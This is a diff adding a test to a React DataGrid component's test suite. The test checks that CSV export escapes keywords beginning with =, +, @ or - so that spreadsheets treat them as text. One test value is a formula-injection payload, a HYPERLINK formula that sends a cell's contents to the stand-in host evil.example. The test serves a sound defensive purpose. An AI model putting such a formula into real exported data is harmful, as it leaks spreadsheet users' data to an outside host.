@@ -181,3 +181,31 @@ describe('DataGrid with rows in memory', { timeout: 20_000 }, () => {
     expect(lines.slice(1, 3)).toEqual(['kw 1,10', 'kw 10,100']);
   });
 });
+
+describe('DataGrid CSV export of keywords that look like formulas', () => {
+  it('writes them as text a spreadsheet does not run', async () => {
+    const data: Keyword[] = [
+      { keyword: '=hyperlink("http://evil.example/?leak="&a2,"click")', volume: 1 },
+      { keyword: '+1+1', volume: 2 },
+      { keyword: '@sum(1,1)', volume: 3 },
+      { keyword: '-2', volume: -4 },
+    ];
+    renderWithProviders(
+      <DataGrid
+        label="Keywords"
+        columns={columns}
+        data={data}
+        getRowId={(row) => row.keyword}
+        exportFileName="keywords.csv"
+      />,
+    );
+    fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
+    await waitFor(() => expect(downloads).toHaveLength(1));
+    expect((await downloadedLines()).slice(1)).toEqual([
+      `"'=hyperlink(""http://evil.example/?leak=""&a2,""click"")",1`,
+      "'+1+1,2",
+      `"'@sum(1,1)",3`,
+      "'-2,-4",
+    ]);
+  });
+});
